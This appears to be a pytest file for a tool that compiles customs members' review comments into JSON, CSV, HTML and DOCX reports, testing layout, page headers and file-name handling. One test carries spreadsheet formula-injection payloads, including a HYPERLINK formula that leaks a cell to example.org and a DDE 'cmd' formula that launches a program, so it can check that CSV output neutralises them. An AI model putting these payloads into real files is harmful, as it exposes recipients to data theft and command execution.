"""The compilation of a round of returns: JSON, CSV, one HTML page, a landscape DOCX."""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile

import pytest
from lxml import etree

from tests.conftest import NS, W, pdf_text
from tests.review.copies import P4, brazil, korea, run_cli
from tests.support.member_copy import MemberCopy
from wcodoc.cli import main
from wcodoc.pdf.convert import convert_to_pdf
from wcodoc.render.html5.page import STYLESHEET

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def test_json_on_stdout_has_the_contract_s_shape(base, tmp_path, capsys):
    files = [str(korea(base, tmp_path / "korea.docx")), str(brazil(base, tmp_path / "brazil.docx"))]
    data = json.loads(
        run_cli(["review", "collect", str(base), *files, "--member", "korea.docx=Korea"], capsys)
    )
    assert set(data) == {"base", "entries"} and data["base"] == "PC0685Ea"
    keys = ["paragraph", "member", "file", "kind", "old_text", "new_text", "comment"]
    assert all(list(entry) == keys for entry in data["entries"])
    assert {"paragraph": "4", "member": "Korea", "file": "korea.docx", "kind": "change", "old_text": P4,
            "new_text": P4.replace("revenue", "revenue and"), "comment": None} in data["entries"]  # fmt: skip


def test_csv_lists_the_entries_under_the_json_keys(base, tmp_path, capsys):
    out = run_cli(
        ["review", "collect", str(base), str(brazil(base, tmp_path / "b.docx")), "--format", "csv"], capsys
    )
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["paragraph"], r["member"], r["kind"], r["comment"]) for r in rows] == [
        ("1", "Brazil Customs", "change", ""),
        ("1", "Brazil Customs", "comment", "Detail is not needed here."),
    ]


def test_html_page_shows_conflicting_proposals_side_by_side(base, tmp_path, capsys):
    files = [str(korea(base, tmp_path / "korea.docx")), str(brazil(base, tmp_path / "brazil.docx"))]
    out = tmp_path / "round.html"
    run_cli(["review", "collect", str(base), *files, "-o", str(out)], capsys)
    page = out.read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>") and "<link" not in page and "<script" not in page
    assert f"<style>{STYLESHEET}</style>" in page  # the page template the diff report uses
    assert "Comments and proposals received on document PC0685Ea" in page
    assert '<td class="par" rowspan="2">1</td>' in page
    assert "<del>in some detail</del><ins>briefly</ins>" in page
    assert "Reply by WCO Secretariat: Noted." in page


def test_docx_compilation_is_landscape_with_one_row_per_paragraph_and_member(base, tmp_path, capsys):
    files = [str(korea(base, tmp_path / "korea.docx")), str(brazil(base, tmp_path / "brazil.docx"))]
    out = tmp_path / "round.docx"
    run_cli(["review", "collect", str(base), *files, "-o", str(out)], capsys)
    root = etree.fromstring(zipfile.ZipFile(out).read("word/document.xml"))
    size = root.find(".//w:sectPr/w:pgSz", NS)
    assert size.get(f"{{{W}}}orient") == "landscape" and int(size.get(f"{{{W}}}w")) > int(
        size.get(f"{{{W}}}h")
    )
    first = "".join(root.find(".//w:body/w:p", NS).itertext())
    assert first == "Comments and proposals received on document PC0685Ea"
    rows = root.findall(".//w:tbl/w:tr", NS)
    cells = [["".join(tc.itertext()) for tc in tr.findall("w:tc", NS)] for tr in rows]
    assert cells[0] == ["Paragraph", "Member", "Proposed text", "Comment", "Secretariat decision"]
    assert {c[4] for c in cells[1:]} == {""}  # for the meeting to fill in
    assert [(c[0], c[1]) for c in cells[1:5]] == [
        ("cover (title)", "Korea Customskorea.docx"),
        ("1", "Brazil Customsbrazil.docx"),
        ("", "Korea Customskorea.docx"),  # the paragraph cell spans both proposals
        ("2", "Korea Customskorea.docx"),
    ]
    assert cells[2][3] == "Detail is not needed here."
    struck = root.xpath(".//w:r[w:rPr/w:strike]/w:t/text()", namespaces=NS)
    underlined = root.xpath(".//w:r[w:rPr/w:u]/w:t/text()", namespaces=NS)
    assert "in some detail" in struck and "briefly" in underlined
    assert "A new paragraph proposed by Korea." in underlined


def _header_text(docx) -> tuple[str, str]:
    """The text of the header the DOCX's section names, and its field instructions."""
    with zipfile.ZipFile(docx) as z:
        document = etree.fromstring(z.read("word/document.xml"))
        rels = etree.fromstring(z.read("word/_rels/document.xml.rels"))
        rid = document.find(".//w:body/w:sectPr/w:headerReference", NS).get(f"{{{R}}}id")
        target = next(rel.get("Target") for rel in rels if rel.get("Id") == rid)
        header = etree.fromstring(z.read(f"word/{target}"))
        assert f'PartName="/word/{target}"' in z.read("[Content_Types].xml").decode()
    fields = " ".join(i.text for i in header.iter(f"{{{W}}}instrText"))
    return "".join(t.text for t in header.iter(f"{{{W}}}t")), fields


def test_docx_compilation_has_numbered_pages_with_the_base_symbol(base, tmp_path, capsys):
    files = [str(korea(base, tmp_path / "korea.docx")), str(brazil(base, tmp_path / "brazil.docx"))]
    out = tmp_path / "round.docx"
    run_cli(["review", "collect", str(base), *files, "-o", str(out)], capsys)
    text, fields = _header_text(out)
    assert (text, fields.split()) == ("1.PC0685Ea", ["PAGE"])


@pytest.mark.libreoffice
def test_docx_compilation_prints_page_numbers_and_symbol_on_every_page(base, tmp_path, capsys):
    copy = MemberCopy(base)
    for k in range(60):  # enough rows for several pages
        copy.comment(
            "Capacity building", f"Member {k:02}", f"Comment {k} on the priority of capacity building."
        )
    out = tmp_path / "round.docx"
    run_cli(["review", "collect", str(base), str(copy.save(tmp_path / "many.docx")), "-o", str(out)], capsys)
    convert_to_pdf(out, tmp_path / "round.pdf")
    pages = pdf_text(tmp_path / "round.pdf").split("\f")[:-1]
    assert len(pages) > 1
    for number, page in enumerate(pages, start=1):
        first = page.strip().splitlines()[0].split()
        assert first == [f"{number}.", "PC0685Ea"], first
        assert "Proposed text" in page and "Secretariat" in page  # the header row, repeated


def test_docx_format_needs_an_output_file(base, tmp_path, capsys):
    with pytest.raises(SystemExit) as exit_info:
        main(["review", "collect", str(base), str(brazil(base, tmp_path / "b.docx")), "--format", "docx"])
    assert exit_info.value.code == 1
    assert "--format docx needs -o" in capsys.readouterr().err


FORMULAS = [
    '=HYPERLINK("https://example.org/?leak="&A1,"Details")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_read_as_text(base, tmp_path, capsys):
    copy = MemberCopy(base)
    for formula in FORMULAS:
        copy.comment("Capacity building", "Korea Customs", formula)
    for author in ("\tKorea Customs", "\rKorea Customs", "=Korea Customs"):
        copy.comment("Customs administrations met", author, "Noted.")
    returned = str(copy.save(tmp_path / "=korea.docx"))
    entries = json.loads(run_cli(["review", "collect", str(base), returned], capsys))["entries"]
    out = run_cli(["review", "collect", str(base), returned, "--format", "csv"], capsys)
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [r["comment"] for r in rows if r["paragraph"] == "3"] == ["'" + f for f in FORMULAS]
    assert [r["member"] for r in rows if r["paragraph"] == "1"] == [
        "'\tKorea Customs",
        "'\rKorea Customs",
        "'=Korea Customs",
    ]
    for row, entry in zip(rows, entries, strict=True):
        for column, cell in row.items():
            value = entry[column] or ""
            assert cell == ("'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value)
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert out.startswith('"paragraph","member","file","kind"') and "\"'=cmd|' /C calc'!A0\"" in out


@pytest.mark.parametrize("suffix", ["docx", "html", "csv", "json"])
def test_file_names_no_output_can_hold_are_shown(base, tmp_path, capsys, suffix):
    # A control character, and a byte that is not UTF-8 (a name made on another system).
    names = ["kor\x01ea.docx", os.fsdecode(b"br\xe9sil.docx")]
    files = [str(brazil(base, tmp_path / name)) for name in names]
    out = tmp_path / f"round.{suffix}"
    run_cli(["review", "collect", str(base), *files, "-o", str(out)], capsys)
    shown = ["kor\u2401ea.docx", "br\ufffdsil.docx"]
    if suffix == "docx":
        root = etree.fromstring(zipfile.ZipFile(out).read("word/document.xml"))
        members = ["".join(tc.itertext()) for tc in root.findall(".//w:tbl/w:tr/w:tc[2]", NS)]
        assert members[1:] == ["Brazil Customs" + shown[1], "Brazil Customs" + shown[0]]
    elif suffix == "json":
        files = {e["file"] for e in json.loads(out.read_text(encoding="utf-8"))["entries"]}
        assert files == {"kor\x01ea.docx", "br\ufffdsil.docx"}
    else:
        text = out.read_text(encoding="utf-8")
        assert "kor\x01ea.docx" in text and "br\ufffdsil.docx" in text
